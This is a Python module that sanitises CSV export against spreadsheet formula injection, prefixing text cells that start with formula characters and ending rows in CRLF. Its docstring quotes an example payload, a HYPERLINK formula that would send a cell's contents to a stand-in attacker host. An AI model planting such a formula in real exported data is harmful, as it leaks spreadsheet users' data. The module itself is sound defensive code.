"""CSV that a spreadsheet opens as data: text cells never start a formula.

Spreadsheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(some first drop a leading tab or carriage return), so a node alias such as
``=HYPERLINK("http://evil.example/?"&A1,"x")`` in a downloaded CSV would run on the
reader's machine (CSV injection). Every CSV the application writes goes through
:func:`csv_writer`, which prefixes such text cells with ``'`` (the OWASP advice;
spreadsheets show the text, without the quote, and do not evaluate it). Numbers are
written as numbers, negative ones included: only ``str`` cells are changed.

Rows end in ``\r\n`` (RFC 4180): the ``csv`` module quotes a cell only for the
characters of its line terminator, so with ``\n`` alone a carriage return inside a
text cell would be written bare and split the row in a spreadsheet.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

#: First characters that make a spreadsheet read a text cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell: None empty, formula-like text prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """A ``csv.writer`` (RFC 4180 line ends) whose rows pass through :func:`safe_cell`."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, every cell made safe."""
        self._writer.writerow([safe_cell(cell) for cell in row])


def csv_writer(out: _Writable) -> SafeCsvWriter:
    """The one way the application writes CSV (see the module docstring)."""
    return SafeCsvWriter(out)
